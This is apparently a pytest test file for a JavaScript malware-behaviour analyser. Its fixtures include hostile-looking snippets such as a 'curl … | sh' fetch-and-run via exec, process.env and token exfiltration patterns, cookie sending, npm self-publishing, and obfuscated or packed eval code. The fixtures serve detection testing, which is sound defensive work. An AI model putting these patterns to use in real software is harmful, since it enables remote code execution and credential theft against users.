"""Fixtures here are hand-written and inert: hosts under example.invalid, no working payload."""

from __future__ import annotations

import base64
from time import perf_counter

import pytest

from darnel.features import syntax
from darnel.features.facts import Observation, SourceFacts
from darnel.features.languages.javascript import analyse
from darnel.features.limits import Limits


def facts(code: str | bytes, dialect: str = "javascript") -> SourceFacts:
    result = analyse(code.encode() if isinstance(code, str) else code, dialect=dialect)
    syntax.check(result.values)
    return result


def seen(code: str, dialect: str = "javascript") -> set[str]:
    return {o.behaviour for o in facts(code, dialect).observations}


def one(code: str, behaviour: str) -> Observation:
    found = [o for o in facts(code).observations if o.behaviour == behaviour]
    assert found, f"no {behaviour}"
    return found[0]


@pytest.mark.parametrize(
    ("code", "behaviour"),
    [
        ("require('child_process').exec(c)", "spawn.shell"),
        ("const cp = require('node:child_process'); cp.spawn(c)", "spawn.process"),
        ("const {exec: x, spawn = 1} = require('child_process'); x(c)", "spawn.shell"),
        ("import * as cp from 'node:child_process'; cp.execSync(c)", "spawn.shell"),
        ("import {exec as y} from 'child_process'; y(c)", "spawn.shell"),
        ("import z, {request} from 'https'; request(c)", "net.request"),
        (
            "const {promisify} = require('util'); const run = promisify(require('child_process').exec); run(c)",
            "spawn.shell",
        ),
        ("const r = require; r('child_process').exec(c)", "spawn.shell"),
        ("module.require('child_process').exec(c)", "spawn.shell"),
        (
            "import {createRequire} from 'module'; const q = createRequire(import.meta.url); q('fs').readFileSync(c)",
            "file.read",
        ),
        ("const m = await import('node:child_process'); m.default.exec(c)", "spawn.shell"),
        ("const e = eval; e(c)", "code.evaluate"),
        ("(0, eval)(c)", "code.evaluate"),
        ("global['ev' + 'al'](c)", "code.evaluate"),
        ("new Function(c)()", "code.evaluate"),
        ("require('vm').runInNewContext(c)", "code.evaluate"),
        ("setTimeout('run()', 1)", "code.evaluate"),
        ("m._compile(c, n)", "code.evaluate"),
        ("Buffer['from'](c, 'hex')", "decode.text"),
        ("atob(c)", "decode.text"),
        ("const p = require('phin').promisified; p({url: u, method: 'POST', data: d})", "net.send"),
        ("const f = require('fs'), px = require.resolve('other'); f.writeFileSync(px, c)", "spread.inject"),
        ("require('fs').writeFileSync(require.resolve('other'), c)", "spread.inject"),
        ("require('fs').writeFileSync(__filename, c)", "hide.silence"),
        ("eval(Buffer.from(c, 'base64').toString())", "code.opaque"),
        ("new Function('a', decrypt(c, k))(1)", "code.opaque"),
        ("const zlib = require('zlib'); zlib.gunzipSync(c)", "decode.decompress"),
        ("require('crypto').createDecipheriv(a, b, c)", "crypt.decrypt"),
        ("require('fs').promises.writeFile(a, b)", "file.write"),
        ("const fse = require('fs-extra'); fse.remove(c)", "file.delete"),
        ("require('fs').chmodSync(c, 0o755)", "file.executable"),
        ("require('fs').writeFileSync(require('path').join(d, 'run.exe'), b)", "file.executable"),
        ("fetch(c, {method: 'POST', body})", "net.send"),
        ("const s = new (require('net').Socket)(); s.connect(1, h)", "net.socket"),
        ("const r = require('https').request(o, f); r.write(d)", "net.send"),
        ("navigator.sendBeacon(u, d)", "net.send"),
        ("require('nodemailer').createTransport(o).sendMail(m)", "net.send"),
        ("require('dns').lookup(a + '.example.invalid', f)", "net.dns"),
        ("x = JSON.stringify(process.env)", "env.all"),
        ("x = JSON.stringify({a: b})", "encode.serialise"),
        ("const e = process.env; send(JSON.stringify(e))", "env.all"),
        ("send({...process.env})", "env.all"),
        ("for (const k in process.env) f(k)", "env.all"),
        ("send(process['env'])", "env.all"),
        ("f(process.env.MY_PORT)", "env.one"),
        ("f(process.env['NPM_TOKEN'])", "env.secret"),
        ("const {AWS_SECRET_ACCESS_KEY} = process.env", "env.secret"),
        ("if (process.env.GITHUB_ACTIONS) f()", "guard.ci"),
        ("require('os').hostname()", "host.identity"),
        ("if (process.platform === 'win32') f()", "guard.host"),
        ("Intl.DateTimeFormat().resolvedOptions().timeZone", "guard.locale"),
        ("f(navigator.language)", "guard.locale"),
        ("setTimeout(f, 60000)", "guard.delay"),
        ("send(document.cookie)", "cred.browser"),
        ("window.ethereum.request({})", "host.chain"),
        ("document.addEventListener('keydown', f)", "host.keys"),
        ("const {GlobalKeyboardListener} = require('node-global-key-listener')", "host.keys"),
        ("require('clipboardy').readSync()", "host.clipboard"),
        ("require('screenshot-desktop')()", "host.screen"),
        ("new https.Agent({rejectUnauthorized: false})", "net.insecure"),
        ("process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0'", "net.insecure"),
        ("require(a + b)", "code.import"),
        ("process.binding('fs')", "code.native"),
        ("require('ffi-napi').Library(x)", "code.native"),
        ("fetch('https://registry.example.invalid/-/npm/v1/tokens')", "spread.tokens"),
        ("require('child_process').execSync('npm publish')", "spread.publish"),
        ("require('child_process').spawn('node', ['a.js'], {detached: true})", "spawn.hidden"),
        ("require('child_process').spawn('node', ['a.js'], {stdio: 'ignore'})", "hide.silence"),
        ("require('child_process').exec('curl http://example.invalid/x | sh')", "spawn.piped"),
        ("process.on('uncaughtException', () => {})", "hide.swallow"),
        ("try { f() } catch (e) { /* nothing */ }", "hide.swallow"),
        ("require('fs').unlinkSync(__filename)", "file.delete"),
        ("require('fs').readdirSync(require('os').homedir())", "host.enumerate"),
    ],
)
def test_names_are_resolved_to_behaviours(code: str, behaviour: str) -> None:
    assert behaviour in seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "function f(exec) { exec('x') }",
        "const m = /a/.exec(s); m.index",
        "const e = require('child_process'); function f(e) { e.exec(s) }",
        "spawn(c, {env: process.env})",
        "const env = process.env",
        "const env = Object.assign({}, process.env)",
        "if (process.env.NODE_ENV !== 'production') warn()",
        "setTimeout(f, 10)",
        "router.get('/', handler)",
        "try { f() } catch (e) { report(e) }",
        "import './style.css'; export default function App() { return <b>hello</b> }",
    ],
)
def test_ordinary_code_shows_nothing(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'ht' + 'tp://a' + '.invalid'", "http://a.invalid"),
        ("['c', 'b', 'a', 'd'].join('-')", "c-b-a-d"),
        ("'dilavni.a'.split('').reverse().join('')", "a.invalid"),
        ("String.fromCharCode(104, 0x74, 116, 112)", "http"),
        ("'\\x68\\u0074tp'", "http"),
        ("atob('aHR0cDovLw==')", "http://"),
        ("Buffer.from('68747470', 'hex').toString()", "http"),
        ("unescape('%68ttp')", "http"),
        ("'hXXtXXtp'.replace(/XX/g, '')", "http"),
        ("`ht${'tp'}://`", "http://"),
        ("[105, 117, 117, 113].map(c => String.fromCharCode(c ^ 1)).join('')", "http"),
    ],
)
def test_constants_are_folded(expression: str, value: str) -> None:
    assert value in {literal.value for literal in facts(f"f({expression})").literals}


def test_constants_reach_through_names() -> None:
    code = "const a = 'child_', b = 'process'; require(a + b).exec(c)"
    assert one(code, "spawn.shell")
    assert one(code, "code.import").hidden


def test_code_in_strings_is_analysed_where_it_stands() -> None:
    payload = base64.b64encode(b"require('child_process').exec('echo nothing at all')").decode()
    spawned = one(f"f();\nconst p = '{payload}';", "spawn.shell")
    assert spawned.line == 2
    assert spawned.hidden
    assert one(f"const p = '{payload}';", "hide.encoded")
    assert "spawn.shell" in seen("eval(\"require('child_process').exec(c)\")")
    assert "spawn.shell" in seen("""require('child_process').exec('node -e "require(`child_process`).execSync(c)"')""")


def test_what_runs_with_the_file() -> None:
    assert one("(async () => { await fetch(u) })()", "net.request").top
    assert one("module.exports = (function () { fetch(u) })()", "net.request").top
    assert one("p.then(function () { fetch(u) })", "net.request").top
    assert one("require('https').get(u, r => r.on('data', d => eval(d)))", "code.evaluate").top
    assert one("function main() { fetch(u) } main()", "net.request").top
    assert one("function main() { fetch(u) } setTimeout(main, 5)", "net.request").top
    assert one("class A { constructor() { fetch(u) } } new A()", "net.request").top
    assert one("(function (m) { m[0]() })([function (e, t, n) { fetch(u) }])", "net.request").top
    assert not one("exports.f = function () { fetch(u) }", "net.request").top
    assert not one("class A { send() { fetch(u) } }", "net.request").top
    assert not one("app.get('/', (req, res) => { fetch(u) })", "net.request").top


def test_order_is_evaluation_order() -> None:
    found = sorted(facts("eval(atob(fetch(u)))").observations, key=lambda o: o.order)
    assert [o.behaviour for o in found] == ["net.request", "decode.text", "code.evaluate", "code.opaque"]
    assert len({o.statement for o in found}) == 1


ROTATED = """
function _0x1a2b(){const t=['exec','12abc','child_process','echo','7xyz'];_0x1a2b=function(){return t;};
return _0x1a2b();}
function _0x3c4d(a,b){const c=_0x1a2b();return _0x3c4d=function(d,e){d=d-0x100;let f=c[d];return f;},_0x3c4d(a,b);}
(function(f,g){const h=_0x3c4d,i=f();while(!![]){try{const j=-parseInt(h(0x100))/0x1+parseInt(h(0x103))/0x2;
if(j===g)break;
else i['push'](i['shift']());}catch(k){i['push'](i['shift']());}}}(_0x1a2b,-0x1));
const _0x5e6f=_0x3c4d;require(_0x5e6f(0x104))[_0x5e6f(0x102)](_0x5e6f(0x100));
"""


def test_a_rotated_string_array_is_read() -> None:
    # parseInt('7xyz') and parseInt('12abc') sum to -7 + 12 / 2 = -1 once '7xyz' is first and '12abc' fourth.
    code = ROTATED.replace(
        "'exec','12abc','child_process','echo','7xyz'", "'12abc','child_process','7xyz','echo','exec'"
    )
    result = facts(code)
    assert "hide.array" in {o.behaviour for o in result.observations}
    assert "spawn.shell" in {o.behaviour for o in result.observations}


def test_packed_code_is_unpacked() -> None:
    code = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
        "('0(\\'1\\').2(3)',4,4,'require|child_process|exec|command'.split('|'),0,{}))"
    )
    assert {"hide.array", "spawn.shell", "code.evaluate"} <= seen(code)


@pytest.mark.parametrize("dialect", ["typescript", "tsx"])
def test_typescript(dialect: str) -> None:
    assert "spawn.shell" in seen("import cp = require('child_process'); cp.exec(c as string);", dialect)
    assert "spawn.shell" in seen("import { exec, type ExecOptions } from 'child_process'; exec<string>(c!);", dialect)
    assert facts("function f<T>(a: T, b?: number): void {}", dialect).identifiers == ["f", "a", "b"]


def test_imports_calls_and_identifiers() -> None:
    result = facts(
        "import a from '@scope/pkg/sub'; const b = require('./x'); export * from 'node:fs'; b.run(c); self.go()"
    )
    assert sorted(result.imports) == [".", "@scope/pkg", "fs"]
    assert {"require", ".run"} <= set(result.calls)
    assert "b" in result.identifiers


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x00" * 5_000,
        b"\xff\xfe" + "require('child_process').exec(c)".encode("utf-16-le"),
        b"\xef\xbb\xbfrequire('child_process').exec(c)",
        bytes(range(256)) * 40,
        b"require('child_process').exec(c" * 200,
        b"const a = 'x" * 500,
        b"[" * 100_000,
        b"a(" * 100_000,
        b"{a:" * 100_000,
        b"'a'+" * 100_000 + b"'b'",
        b"a.b(" * 100_000,
        b"x=>" * 100_000,
        b"var a=b+b,b=c+c,c=d+d,d=e+e,e=f+f,f=g+g,g=h+h,h='aaaaaaaaaaaaaaaa'+'b';" * 50,
    ],
)
def test_hostile_bytes_are_survived(data: bytes) -> None:
    begin = perf_counter()
    facts(data)
    assert perf_counter() - begin < 10


def test_long_files_are_cut_around_what_matters() -> None:
    filler = b"function pad(a, b) { return a + b }\n" * 20_000
    middle = filler + b"require('child_process').exec(c);\n" + filler
    result = analyse(middle, Limits(parse_bytes=100_000))
    assert "parse-bytes" in result.cut
    found = [o for o in result.observations if o.behaviour == "spawn.shell"]
    assert [o.line for o in found] == [20_001]


def test_budgets_are_kept() -> None:
    result = analyse(b"eval(x);'literal one';" * 200, Limits(observations=50, literals=0))
    assert len(result.observations) == 50
    assert {"observations", "literals"} <= set(result.cut)


def test_facts_are_reproducible() -> None:
    code = "const f = require('fs');" + "".join(f"f.readFileSync('name{i}');" for i in range(200))
    first, second = facts(code), facts(code)
    assert first.observations == second.observations
    assert first.calls == second.calls
    assert first.literals == second.literals


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        ("exec('updater.exe')", True),
        ("exec('start /b updater.exe -q')", True),
        ("exec(`${__dirname}/updater.exe`)", True),
        ("execFile(path.join(__dirname, 'bin', 'updater.exe'))", True),
        ("spawn('node', ['lib/x.js'], {detached: true})", True),
        ("spawn(process.execPath, [path.join(__dirname, 'x.js')])", True),
        ("fork('x')", True),
        ("exec('taskkill /im updater.exe /f')", False),
        ("spawn('cmd.exe', ['/c', 'ls'])", False),
        ("spawn('node', ['--version'])", False),
        ("exec('git status')", False),
    ],
)
def test_programs_and_scripts_that_are_started(call: str, expected: bool) -> None:
    function = call.partition("(")[0]
    code = f"const path = require('path'), {{{function}}} = require('child_process'); {call}"
    assert ("spawn.script" in seen(code)) is expected


def test_rotation_is_of_one_array() -> None:
    assert "hide.array" in seen("while (true) { _0xab['push'](_0xab['shift']()); }")
    assert "hide.array" in seen("while (n--) list.push(list.shift());")
    assert "hide.array" not in seen("while (args.length) { parsed.names.push(args.shift()); }")


def test_a_function_of_the_file_is_not_the_module_of_that_name() -> None:
    assert "net.fetch" not in seen("function download(url) { return url; }\ndownload('a');")
    assert "net.fetch" in seen("const download = require('download');\ndownload('a');")
    assert "net.fetch" in seen("const get = require('download');\nfunction download(x) { get(x); }\ndownload('a');")
    assert "guard.delay" in seen("function sleep(n) { return n; }\nsleep(3000);")
    assert "file.write" in seen(
        "const fs = require('fs');\nfunction copyFile(a, b) { fs.copyFile(a, b); }\ncopyFile('a', 'b');"
    )


def test_one_long_literal_does_not_hide_the_code_around_it() -> None:
    code = 'var _0x1a2b=["' + "\\x41" * 400_000 + '","a"];eval(function(p){return p}(_0x1a2b[0]));'
    result = facts(code)
    assert "literals" in result.cut
    assert {"code.evaluate", "code.opaque"} <= {o.behaviour for o in result.observations}


def test_what_a_function_written_in_place_returns_is_opaque_code() -> None:
    assert "code.opaque" in seen("eval(function(p){while(p--){x=x.replace(p,y)}return x}(q[0],10))")
    assert "code.opaque" in seen("eval((() => q)())")
    assert "code.opaque" not in seen("eval(made(q))")


@pytest.mark.parametrize(
    "code",
    [
        "Function('return this')()",
        "new Function('\"use strict\"; return this;')()",
        "new Function('return globalThis')()",
        "(0, eval)('this')",
        "(void 0, eval)('(function() { return this; })()')",
    ],
)
def test_asking_for_the_global_object_is_no_evaluation(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "Function('return this.x(y)')()",
        "eval('this[\"a\"+b]()')",
        "eval('(function() { return q; })()')",
        "Function('a = f()', 'return this')()",
    ],
)
def test_other_constants_are_evaluated(code: str) -> None:
    assert "code.evaluate" in seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "var C = Function.bind.apply(Parent, a); var i = new C()",
        "new (Function.prototype.bind.apply(Parent, a))()",
        "var bind = Function.bind || require('./b'); new (bind.apply(Target, a))",
        "var put = Function.apply; put.call(target, self, list)",
        "Function.prototype.call.bind(Object.prototype.hasOwnProperty)(x, 'y')",
        "function f(open) { const C = Function.bind.apply(open, a); return new C(x) }",
    ],
)
def test_methods_of_functions_evaluate_nothing(code: str) -> None:
    assert not seen(code)


@pytest.mark.parametrize(
    "code",
    [
        "Function.apply(null, ['a', b])",
        "Function.call(null, b)",
        "const F = Function.bind(null, b); F()",
        "var F = Function; F.apply(null, [b])",
        "var put = Function.apply; put.call(Function, null, [b])",
        "Function.bind.apply(Function, [null, b])()",
        "var C = Function.bind.apply(Function, a); C(b)",
        "Function.prototype.call.call(eval, null, b)",
    ],
)
def test_unless_they_are_those_of_an_evaluator(code: str) -> None:
    assert "code.evaluate" in seen(code)


OWN = """var fs = require("fs"), {extra};
exports.PARTS = {parts};
new Function("exports", function() {{
    var code = exports.PARTS.map(function(part) {{
        return fs.readFileSync(part, "utf8");
    }});
    code.push("exports.show = " + show.toString());
    return code.{last};
}}())(exports);
"""
RESOLVED = '[require.resolve("../lib/a.js"), require.resolve("./b.js")]'
NAMED = '["../lib/a.js", "./b.js"].map(function(name){ return require.resolve(name); })'


def own(parts: str = RESOLVED, last: str = 'join("")', extra: str = "x") -> set[str]:
    return seen(OWN.format(parts=parts, last=last, extra=extra))


@pytest.mark.parametrize("parts", [RESOLVED, NAMED, f"more = {NAMED}"])
def test_functions_made_of_modules_of_the_package_are_not_opaque(parts: str) -> None:
    assert "code.evaluate" in own(parts)
    assert "code.opaque" not in own(parts)
    assert "code.opaque" not in seen('eval((() => fs.readFileSync(require.resolve("./a.js"), "utf8"))())')


@pytest.mark.parametrize(
    "changed",
    [
        {"parts": '["../lib/a.txt"].map(function(name){ return require.resolve(name); })'},
        {"parts": '[require.resolve("./a.js"), other]'},
        {"parts": '[require.resolve("other/a.js")]'},
        {"last": 'join("").replace(/x/g, "")'},
        {"last": "map(function(t) { return Buffer.from(t, 'base64') })"},
        {"extra": "y = atob(z)"},
        {"extra": "z = exports.PARTS.push('./c.txt')"},
    ],
)
def test_functions_made_of_anything_else_are(changed: dict[str, str]) -> None:
    assert "code.opaque" in own(**changed)
    assert "code.opaque" in seen('eval((() => fs.readFileSync(__dirname + "/a.txt", "utf8"))())')


def test_options_that_have_a_name_say_that_something_is_sent() -> None:
    code = (
        "const https = require('https');\nconst options = {{hostname: host, method: '{}'}};\n"
        "file.pipe(https.request(options));"
    )
    assert "net.send" in seen(code.format("POST"))
    assert "net.send" not in seen(code.format("GET"))


@pytest.mark.parametrize(
    ("address", "sends"),
    [
        ("'https://a.example.invalid/x'", True),
        ("'//a.example.invalid/x'", True),
        ("`${host}/x`", True),
        ("host + '/x'", True),
        ("'/x'", False),
        ("'http://localhost:8080/x'", False),
        ("`http://127.0.0.1:${port}/x`", False),
        ("'http://127.0.0.1:' + port", False),
        ("'http://localhost.example.invalid/x'", True),
        ("'http://localhost:80@example.invalid/x'", True),
        (r"'/\\example.invalid/x'", True),
    ],
)
def test_what_stays_here_is_not_sent(address: str, sends: bool) -> None:
    for code in (f"fetch({address}, {{method: 'POST', body: d}})", f"require('axios').post({address}, d)"):
        assert ("net.send" in seen(code)) is sends
        assert "net.request" in seen(code) or sends


def test_a_request_without_a_body_sends_nothing() -> None:
    code = "const x = new XMLHttpRequest(); x.open('GET', u); x.send({});"
    assert "net.send" in seen(code.format("d"))
    assert "net.send" not in seen(code.format(""))
    assert "net.send" not in seen(code.format("null"))
    assert "net.request" in seen(code.format("null"))


def test_a_handler_with_a_name_is_not_known_to_swallow() -> None:
    assert "hide.swallow" in seen("process.on('uncaughtException', () => {});")
    assert "hide.swallow" not in seen("process.on('uncaughtException', report);")


@pytest.mark.parametrize(
    ("head", "hidden"),
    [(b"\0asm\1\0\0\0", False), (b"\x89PNG\r\n\x1a\n", False), (b"MZ\x90\0\3\0\0\0", True), (b"\x7fELF\2\1\1\0", True)],
)
def test_a_program_in_base64_is_hidden_and_webassembly_only_native(head: bytes, hidden: bool) -> None:
    text = base64.b64encode(head + bytes(range(128, 256)) * 2).decode()
    found = seen(f"const x = '{text}'; WebAssembly.compile(Buffer.from(x, 'base64')).then(run)")
    assert ("hide.encoded" in found) is hidden
    assert "code.native" in found
